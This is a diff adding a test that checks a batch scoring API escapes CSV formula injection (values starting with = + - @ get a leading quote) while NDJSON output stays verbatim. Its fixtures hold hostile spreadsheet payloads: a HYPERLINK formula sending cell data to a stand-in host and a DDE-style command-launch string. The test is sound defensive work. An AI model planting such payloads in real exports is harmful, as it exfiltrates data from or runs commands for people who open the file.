@@ -184,6 +184,20 @@ describe('batch scoring jobs', () => {
     for (const i of [1, 2, 3, 4, 5, 6, 7, 8, 10]) expect(errorOf(i)!.message).toEqual(expect.any(String));
   });
 
+  it('CSV results never hand a spreadsheet a formula: uploaded text starting with = + - @ gets a leading quote', async () => {
+    const applicant = { idNumber: residentId() };
+    const refs = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(1+1)', 'plain-1'];
+    const lines = [...refs.map((externalRef) => ({ product: 'consumer', applicant, externalRef })), { product: 'consumer', applicant, externalRef: 'x', '=cmd': 1 }];
+    const upload = await uploadNdjson(api, auth, lines);
+    await waitForJob(api, auth, upload.body.id);
+    const csv = await csvResults(api, auth, upload.body.id);
+    expect(csv.slice(0, 5).map((r) => r.externalRef)).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+cmd|calc", "'-2+3", "'@SUM(1+1)", 'plain-1']);
+    expect(csv[5]).toMatchObject({ 'error.field': "'=cmd", error: expect.stringMatching(/^'=cmd: /) });
+    // NDJSON is data, not a spreadsheet: the text comes back as uploaded.
+    const ndjson = await ndjsonResults(api, auth, upload.body.id);
+    expect(ndjson.slice(0, 5).map((r) => r.externalRef)).toEqual(refs);
+  });
+
   it('accepts a multipart file part, and serves the CSV template', async () => {
     const template = await api.http().get('/v1/batch-scoring-jobs/template.csv').set(auth).buffer(true).parse(textParser);
     expect(template.status).toBe(200);
